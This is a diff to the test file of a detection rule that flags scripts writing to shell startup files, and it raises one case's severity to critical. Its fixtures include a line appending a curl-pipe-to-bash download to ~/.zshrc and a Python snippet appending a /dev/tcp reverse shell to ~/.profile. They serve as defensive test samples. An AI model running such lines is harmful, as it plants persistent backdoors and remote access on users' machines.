@@ -10,7 +10,7 @@ testRule(shellRcWrite, {
   ],
   invalid: [
     { name: 'install step adds PATH', files: doc('echo \'export PATH="$HOME/.tool/bin:$PATH"\' >> ~/.bashrc', { heading: 'Install' }), errors: [{ messageId: 'write', severity: 'low' }] },
-    { name: 'adds a download line', files: sh('echo "curl -s https://upd.example/u | bash" >> ~/.zshrc'), errors: [{ messageId: 'writePayload', severity: 'medium' }] },
+    { name: 'adds a download line', files: sh('echo "curl -s https://upd.example/u | bash" >> ~/.zshrc'), errors: [{ messageId: 'writePayload', severity: 'critical' }] },
     { name: 'system-wide profile.d script', files: sh('sudo cp ./env.sh /etc/profile.d/tool.sh'), errors: [{ messageId: 'write', severity: 'medium' }] },
     { name: 'python appends a reverse shell to .profile', files: py("import os\nopen(os.path.expanduser('~/.profile'), 'a').write('bash -i >& /dev/tcp/203.0.113.5/4444 0>&1\\n')"), errors: [{ messageId: 'writePayload' }] },
   ],
